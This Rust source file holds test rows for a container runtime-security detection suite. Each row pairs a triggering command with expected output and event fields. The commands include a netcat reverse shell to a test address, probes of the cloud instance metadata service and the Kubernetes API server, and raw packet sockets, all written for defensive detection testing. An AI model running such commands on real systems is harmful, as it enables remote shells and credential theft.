//! Connections. All of them end inside the container's own network namespace: see [`crate::peers`].

use crate::row::Effect::{Exists, Prints};
use crate::row::{Place, Row, row};

pub(super) const ROWS: &[Row] = &[
    row(
        "contact-ec2-instance-metadata-service-from-container",
        &["nc", "169.254.169.254", "80"],
    )
    .upstream(
        "Contact EC2 Instance Metadata Service From Container",
        "ContactEC2InstanceMetadataServiceFromContainer",
    )
    .effects(&[Prints("attacks")])
    .fields(&[
        ("fd.name", "169.254.169.254:*->169.254.169.254:80"),
        ("fd.l4proto", "tcp"),
    ]),
    row(
        "contact-cloud-metadata-service-from-container",
        &["attack", "connect", "tcp", "169.254.169.254:80"],
    )
    .upstream("Contact cloud metadata service from container", "")
    .effects(&[Prints("the peer said: HTTP/1.0 200")])
    .fields(&[
        ("fd.name", "169.254.169.254:*->169.254.169.254:80"),
        ("fd.rport", "80"),
    ]),
    row(
        "contact-k8s-api-server-from-container",
        &["attack", "connect", "tcp", "198.51.100.10:6443"],
    )
    .upstream("Contact K8S API Server From Container", "")
    .effects(&[Prints("the peer said: kubernetes")])
    .fields(&[("fd.name", "198.51.100.10:*->198.51.100.10:6443")]),
    row(
        "disallowed-ssh-connection-non-standard-port",
        &[
            "ssh",
            "-oBatchMode=yes",
            "-oStrictHostKeyChecking=no",
            "-p",
            "443",
            "user@example.com",
        ],
    )
    .upstream(
        "Disallowed SSH Connection Non Standard Port",
        "DisallowedSSHConnectionNonStandardPort",
    )
    .at(Place::Debian)
    .exits(255)
    .effects(&[Prints("203.0.113.9 port 443")])
    .fields(&[
        ("fd.name", "203.0.113.9:*->203.0.113.9:443"),
        ("fd.l4proto", "tcp"),
    ]),
    row(
        "interpreted-procs-inbound-network-activity",
        &["lua", "accept", "203.0.113.9:5000"],
    )
    .suite(
        "Interpreter Takes a Connection",
        "InterpretedProcsInboundNetworkActivity",
    )
    .effects(&[Prints("accepted 203.0.113.9")])
    .fields(&[("fd.name", "203.0.113.9:*->203.0.113.9:5000")]),
    row(
        "interpreted-procs-outbound-network-activity",
        &["lua", "connect", "tcp", "203.0.113.9:80"],
    )
    .suite(
        "Interpreter Connects",
        "InterpretedProcsOutboundNetworkActivity",
    )
    .effects(&[Prints("the peer said: HTTP")])
    .fields(&[("fd.name", "203.0.113.9:*->203.0.113.9:80")]),
    row(
        "java-process-class-file-download",
        &["java", "receive-class", "203.0.113.9:5001"],
    )
    .suite("Class File Received", "JavaProcessClassFileDownload")
    .effects(&[Prints("a class file of 8 bytes")])
    .fields(&[("fd.name", "203.0.113.9:*->203.0.113.9:5001")]),
    row(
        "network-connection-outside-local-subnet",
        &["attack", "connect", "tcp", "203.0.113.9:443"],
    )
    .upstream("Network Connection outside Local Subnet", "")
    .effects(&[Prints("the peer said: SSH")])
    .fields(&[("fd.name", "203.0.113.9:*->203.0.113.9:443")])
    .note("the list of namespaces it is about is empty upstream; the suite's rules fill it"),
    row(
        "packet-socket-created-in-container",
        // AF_PACKET, SOCK_RAW, ETH_P_ALL in network order
        &["attack", "socket", "17", "3", "768"],
    )
    .upstream(
        "Packet socket created in container",
        "PacketSocketCreatedInContainer",
    )
    .effects(&[Prints("socket ")])
    .fields(&[("evt.args", "*AF_PACKET*")]),
    row(
        "redirect-stdout-to-network-connection-in-container",
        &["attack", "redirect", "203.0.113.9:7"],
    )
    .upstream(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "",
    )
    .effects(&[Prints("the peer said: written to standard output")])
    .fields(&[
        ("fd.name", "203.0.113.9:*->203.0.113.9:7"),
        ("fd.type", "ipv4"),
        ("fd.sip", "203.0.113.9"),
    ]),
    row(
        "redirect-by-netcat",
        &["nc", "203.0.113.9", "22", "-e", "/bin/sh"],
    )
    .upstream(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "",
    )
    .effects(&[Exists("/srv/taken")])
    .fields(&[("fd.name", "203.0.113.9:*->203.0.113.9:22")]),
    row(
        "system-procs-network-activity",
        &["sha1sum", "connect", "udp", "203.0.113.9:4000"],
    )
    .upstream(
        "System procs network activity",
        "SystemProcsNetworkActivity",
    )
    .effects(&[Prints("the peer said: hello")])
    .fields(&[
        ("fd.name", "203.0.113.9:*->203.0.113.9:4000"),
        ("fd.l4proto", "udp"),
    ]),
    row(
        "unexpected-udp-traffic",
        &["sh", "-c", "echo hello | nc -u -w 1 example.com 22"],
    )
    .upstream("Unexpected UDP Traffic", "UnexpectedUDPTraffic")
    .at(Place::Debian)
    .by("nc", "sh")
    .effects(&[Prints("hello")])
    .fields(&[
        ("fd.name", "203.0.113.9:*->203.0.113.9:22"),
        ("fd.l4proto", "udp"),
    ]),
];
